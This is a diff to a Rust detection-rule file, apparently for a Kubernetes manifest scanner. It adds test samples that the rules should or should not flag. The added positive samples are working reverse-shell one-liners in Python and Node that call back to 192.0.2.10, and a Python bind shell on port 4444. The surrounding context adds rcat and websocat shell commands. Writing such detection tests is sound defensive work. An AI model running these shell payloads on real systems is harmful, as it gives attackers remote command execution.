@@ -125,6 +125,17 @@ pub(super) static RULES: &[Rule] = &[
                 50,
                 "containers: [{name: a, command: [rcat, connect, -s, bash, '192.0.2.10', '55600']}]",
             ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [python3, -c, 'import socket as k,subprocess as q;x=k.socket();x.connect((\"192.0.2.10\",443));q.call([\"sh\",\"-i\"],stdin=x,stdout=x)']}]",
+            ),
+            Sample::Hit(
+                50,
+                "containers: [{name: a, command: [node, -e, 'const n=require(\"net\"),c=require(\"child_process\");const s=n.connect(4444,\"192.0.2.10\",()=>{const p=c.spawn(\"sh\",[]);s.pipe(p.stdin);p.stdout.pipe(s)})']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess;socket.gethostname();subprocess.run([\"sh\",\"x.sh\"],stdin=subprocess.DEVNULL)']}]",
+            ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, \"cat > /tmp/t.go <<'E'\\npackage main\\nfunc main(){exec.Command(\\\"make\\\").Run()}\\nE\\ngo run /tmp/t.go\"]}]",
             ),
@@ -200,6 +211,10 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Hit(
                 45,
                 "containers: [{name: a, command: [websocat, -E, 'ws-l:0.0.0.0:8080', 'cmd:sh -i']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess\\ns=socket.socket();s.bind((\"\",4444));s.listen(1)\\nc,a=s.accept()\\nwhile 1: c.send(subprocess.getoutput(c.recv(1024).decode()).encode())']}]",
             ),
             Sample::Miss("containers: [{name: a, command: [websocat, 'ws-l:0.0.0.0:8080', 'tcp:db:5432']}]"),
             Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -l -p 8080 > /data/upload']}]"),
